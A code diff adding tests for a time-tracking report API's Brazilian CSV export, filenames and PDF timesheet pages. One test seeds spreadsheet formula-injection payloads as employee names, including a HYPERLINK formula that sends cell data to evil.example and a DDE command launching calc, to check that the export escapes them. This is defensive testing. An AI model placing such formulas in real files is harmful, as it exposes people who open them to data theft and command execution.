@@ -8,7 +8,7 @@ import { parseAfdt } from '../../src/legal/afdt.js';
 import { seedMonth } from '../support/seed-month.js';
 import { nextCpf } from '../support/fixtures.js';
 import { expectGolden } from '../support/golden.js';
-import { pdfText, withoutSpaces } from '../support/pdf-text.js';
+import { pdfPages, pdfText, withoutSpaces } from '../support/pdf-text.js';
 import { afd, prepareReport } from '../../src/modules/reports/reports.service.js';
 import { requireLegalIdentity } from '../../src/modules/rep/legal-identity.js';
 import { newId } from '../../src/platform/ids.js';
@@ -99,8 +99,11 @@ async function knownWeek(options: { name?: string; at?: (local: string) => void 
 
 const get = (key: string, url: string) => t.request({ method: 'GET', url, key });
 
-/** The cells of an RFC 4180 CSV (quoted fields may hold commas, quotes and line breaks). */
-function parseCsv(text: string): string[][] {
+/**
+ * The cells of an RFC 4180 CSV (quoted fields may hold the separator, quotes and line breaks); a line ends
+ * with LF or CR LF.
+ */
+function parseCsv(text: string, separator = ','): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
   let cell = '';
@@ -112,10 +115,11 @@ function parseCsv(text: string): string[][] {
       else if (text[i + 1] === '"') cell += text[++i];
       else quoted = false;
     } else if (char === '"') quoted = true;
-    else if (char === ',') {
+    else if (char === separator) {
       row.push(cell);
       cell = '';
-    } else if (char === '\n') {
+    } else if (char === '\n' || (char === '\r' && text[i + 1] === '\n')) {
+      if (char === '\r') i++;
       rows.push([...row, cell]);
       row = [];
       cell = '';
@@ -319,6 +323,98 @@ describe('GET /v1/reports/period', () => {
     }
     const total = rows.find((row) => row[3] === 'TOTAL')!;
     expect(total.slice(7, 14)).toEqual(['480', '0', '0', '0', '0', '480', '0']);
+  });
+
+  it('200 CSV for a spreadsheet (csv-br): byte-order mark, `;`, CR LF, Portuguese headers, dd/mm/aaaa, hh:mm', async () => {
+    const { key, office } = await knownWeek();
+    const response = await get(
+      key,
+      `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}&format=csv-br`,
+    );
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = response.rawPayload.subarray(3).toString('utf8');
+    expect(text.endsWith('\r\n')).toBe(true);
+    // Every line break is a CR LF (none of these cells holds a line break of its own).
+    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
+    const lines = text.split('\r\n').slice(0, -1);
+    expect(lines[0]).toBe(
+      'Empregado;Matrícula;CPF;Data;Dia;Situação;Horário previsto;Marcações;Incluídas;Desconsideradas;Previsto;Trabalhado;Noturno;Horas extras;HE 50%;HE 100%;Trabalhado em feriado ou descanso;Atraso;Falta;Intervalo;Intervalo suprimido;Interjornada;Ocorrências',
+    );
+    expect(lines).toHaveLength(7);
+    expect(lines[2]).toBe(
+      'Ana Conceição;;529.982.247-25;17/11/2026;ter;dia útil;08:00–12:00 13:00–17:00;08:00 12:00 13:00 17:00;17:00;;08:00;08:00;00:00;00:00;00:00;00:00;00:00;00:00;00:00;01:00;00:00;00:00;',
+    );
+    expect(lines[3]).toBe(
+      'Ana Conceição;;529.982.247-25;18/11/2026;qua;dia útil;08:00–12:00 13:00–17:00;08:00 12:00 13:03 17:00;;08:01;08:00;07:57;00:00;00:00;00:00;00:00;00:00;00:00;00:00;01:03;00:00;00:00;',
+    );
+    expect(lines[5]).toBe(
+      'Ana Conceição;;529.982.247-25;20/11/2026;sex;feriado: Dia Nacional de Zumbi e da Consciência Negra;;08:12 12:00 13:00 17:00;;;00:00;07:48;00:00;07:48;00:00;07:48;07:48;00:00;00:00;01:00;00:00;00:00;',
+    );
+    // The totals, more than 24 hours written as they are.
+    expect(lines[6]).toBe(
+      'Ana Conceição;;529.982.247-25;Total;;;;;;;32:00;41:45;00:00;09:48;02:00;07:48;07:48;00:00;00:00;05:03;00:00;00:00;',
+    );
+    // The integration CSV of the same days is as it was: minutes as integers, codes in English, no mark.
+    const csv = await get(
+      key,
+      `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}&format=csv`,
+    );
+    expect(csv.rawPayload[0]).toBe('e'.charCodeAt(0));
+    expect(csv.body.split('\n')[6]).toBe(
+      `${office.id},Ana Conceição,52998224725,TOTAL,,,,1920,2505,0,588,0,0,303,,468,,,,,120,468,0,0`,
+    );
+  });
+
+  it('csv-br: a cell with `;`, `"` or a line break is quoted; a cell a spreadsheet would evaluate starts with a quote', async () => {
+    const tenant = await t.seedTenant();
+    const { key } = await tenant.key();
+    const names = [
+      'Silva; Ana "Aninha"',
+      '=HYPERLINK("https://evil.example/?d="&A1;"Clique")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1;1)',
+    ];
+    for (const name of names) await t.hire(key, { name, schedule: { mon: OFFICE } });
+    await t.hire(key, { name: 'Quebra', registration: 'linha 1\nlinha 2', schedule: { mon: OFFICE } });
+    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-17&format=csv-br');
+    expect(response.statusCode).toBe(200);
+    const text = response.rawPayload.subarray(3).toString('utf8');
+    expect(text).toContain('\r\n"Silva; Ana ""Aninha""";;');
+    expect(text).toContain('\r\nQuebra;"linha 1\nlinha 2";');
+    const [header, ...rows] = parseCsv(text, ';');
+    expect(header![0]).toBe('Empregado');
+    expect(rows).toHaveLength((names.length + 1) * 3);
+    expect(new Set(rows.map((row) => row[0]))).toEqual(
+      new Set(['Silva; Ana "Aninha"', ...names.slice(1).map((name) => `'${name}`), 'Quebra']),
+    );
+    expect(rows.find((row) => row[0] === 'Quebra')![1]).toBe('linha 1\nlinha 2');
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
+    const total = rows.find((row) => row[0] === "'-2+3" && row[3] === 'Total')!;
+    expect(total.slice(10, 12)).toEqual(['08:00', '00:00']);
+    expect(total[22]).toBe('faltas: 1');
+  });
+
+  it('files are named after the employee and the period (ASCII, and as written in `filename*`), or the employer', async () => {
+    const { key, office } = await knownWeek({ name: 'Padaria Pão & Cia' });
+    for (const format of ['csv', 'csv-br', 'pdf']) {
+      const extension = format === 'pdf' ? 'pdf' : 'csv';
+      const one = await get(
+        key,
+        `/v1/reports/period?from=2026-11-16&to=2026-11-20&employeeId=${office.id}&format=${format}`,
+      );
+      expect(one.headers['content-disposition'], format).toBe(
+        `attachment; filename="espelho-ana-conceicao-2026-11-16-a-2026-11-20.${extension}"; ` +
+          `filename*=UTF-8''espelho-Ana%20Concei%C3%A7%C3%A3o-2026-11-16-a-2026-11-20.${extension}`,
+      );
+      const all = await get(key, `/v1/reports/period?from=2026-11-16&to=2026-11-20&format=${format}`);
+      expect(all.headers['content-disposition'], format).toBe(
+        `attachment; filename="espelho-padaria-pao-cia-2026-11-16-a-2026-11-20.${extension}"; ` +
+          `filename*=UTF-8''espelho-Padaria%20P%C3%A3o%20%26%20Cia-2026-11-16-a-2026-11-20.${extension}`,
+      );
+    }
   });
 
   it('400 for a reversed range, a range over 366 days and bad dates; 404 for another tenant’s employee', async () => {
@@ -562,6 +658,66 @@ describe('GET /v1/reports/period?format=pdf', () => {
     expect(pdf.subarray(-6).toString()).toContain('%%EOF');
     // Two employees, each from a new page.
     expect(pdf.toString('latin1').match(/\/Type \/Page\b/g)).toHaveLength(2);
+  });
+
+  it('the marks in E1 S1 E2 S2 columns, the declaration, place and date, and both signature lines', async () => {
+    const { key } = await knownWeek();
+    const response = await get(key, '/v1/reports/period?from=2026-11-16&to=2026-11-20&format=pdf');
+    const [office, night] = await pdfPages(response.rawPayload);
+    for (const page of [office!, night!]) {
+      expect(page).toContain('Data E1 S1 E2 S2 Trab.');
+      expect(withoutSpaces(page)).toContain(
+        withoutSpaces(
+          'Reconheço a exatidão das marcações e das horas registradas neste espelho de ponto, referente ao período de 16/11/2026 a 20/11/2026.',
+        ),
+      );
+      expect(page).toContain('Local e data:');
+      expect(page).toContain('Assinatura do empregado');
+      expect(page).toContain('Assinatura do empregador');
+      expect(page).toContain('Página 1 de 1');
+    }
+    // Each time under its column; the included exit starred, the disregarded mark among the occurrences.
+    expect(office).toContain('16/11 seg 08:00 12:00 13:00 17:00 8:00');
+    expect(office).toContain('17/11 ter 08:00 12:00 13:00 17:00* 8:00');
+    expect(office).toContain('18/11 qua 08:00 12:00 13:03 17:00 7:57');
+    expect(office).toContain('desconsiderada: 08:01');
+    expect(office).toMatch(/Ana Conceição CPF 529\.982\.247-25 Assinatura do empregado/);
+    expect(night).toContain('16/11 seg 22:00 05:00');
+  });
+
+  it('a day with more than two pairs continues under E1 S1; a long espelho numbers each of its pages', async () => {
+    const tenant = await t.seedTenant();
+    const { key } = await tenant.key();
+    const id = await t.hire(key, {
+      name: 'Júlia Longa',
+      admissionDate: '2026-01-01',
+      schedule: { mon: OFFICE },
+    });
+    for (const time of ['08:00', '10:00', '10:15', '12:00', '13:00', '17:00']) {
+      const mark = await t.request({
+        method: 'POST',
+        url: '/v1/time-entries',
+        key,
+        payload: { employeeId: id, occurredAt: `2026-11-16T${time}:00-03:00` },
+      });
+      expect(mark.statusCode).toBe(201);
+    }
+    const response = await get(
+      key,
+      `/v1/reports/period?from=2026-08-01&to=2026-11-30&employeeId=${id}&format=pdf`,
+    );
+    expect(response.statusCode).toBe(200);
+    const pages = await pdfPages(response.rawPayload);
+    expect(pages.length).toBeGreaterThanOrEqual(3);
+    pages.forEach((page, i) => {
+      expect(page).toContain(`Página ${i + 1} de ${pages.length}`);
+      expect(page).toContain('Espelho de ponto — Júlia Longa — 01/08/2026 a 30/11/2026');
+      // Every page repeats the column titles.
+      expect(page).toContain('Data E1 S1 E2 S2');
+    });
+    // The third pair on the line below the first: 13:00 under 08:00 in E1, 17:00 under 10:00 in S1.
+    expect(pages.join(' ')).toContain('16/11 seg 08:00 13:00 10:00 17:00 10:15 12:00');
+    expect(withoutSpaces(pages.at(-1)!)).toContain(withoutSpaces('Reconheço a exatidão das marcações'));
   });
 });
 
